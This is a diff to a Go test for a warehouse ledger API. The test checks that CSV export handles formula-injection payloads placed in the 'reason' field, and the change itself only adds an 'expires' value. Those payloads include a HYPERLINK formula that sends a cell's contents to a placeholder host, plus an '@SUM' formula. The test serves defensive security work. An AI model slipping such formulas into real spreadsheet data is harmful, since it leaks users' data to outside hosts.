@@ -321,7 +321,7 @@ func TestLedgerCSVNoFormulas(t *testing.T) {
 	base, _, _ := startServer(t)
 	formula := `=HYPERLINK("http://example.invalid/?x="&A1,"盘点")`
 	for _, body := range []string{
-		`{"op":"receive","type":"foam-afff-3","quantity":20,"reason":` + strconv.Quote(formula) + `}`,
+		`{"op":"receive","type":"foam-afff-3","quantity":20,"expires":"2031-01-01","reason":` + strconv.Quote(formula) + `}`,
 		`{"op":"adjust","type":"foam-afff-3","quantity":-5,"reason":"@SUM(1+1)"}`,
 	} {
 		if st, b, _ := do(t, "POST", base+"/api/v1/warehouses/WH-01/ledger", body); st != http.StatusCreated {
